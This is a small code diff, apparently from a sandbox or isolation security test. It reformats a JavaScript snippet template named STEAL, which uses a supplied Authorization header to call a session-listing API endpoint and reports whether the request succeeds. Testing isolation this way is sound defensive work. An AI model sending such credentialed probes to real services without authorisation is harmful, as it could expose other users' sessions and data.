@@ -424,7 +424,8 @@ CONNECT = """$$.async(); new Promise((resolve) => {{
   setTimeout(() => resolve('timeout'), 3000);
 }}).then($$.done)"""
 
-STEAL = """$$.async(); fetch({url!r} + '/listSessions?api-version=2025-02-02-preview', {{ headers: {{ Authorization: {auth!r} }} }})
+STEAL = """$$.async();
+fetch({url!r} + '/listSessions?api-version=2025-02-02-preview', {{ headers: {{ Authorization: {auth!r} }} }})
   .then((r) => r.status, (e) => String(e.cause && e.cause.code)).then($$.done)"""
 
 
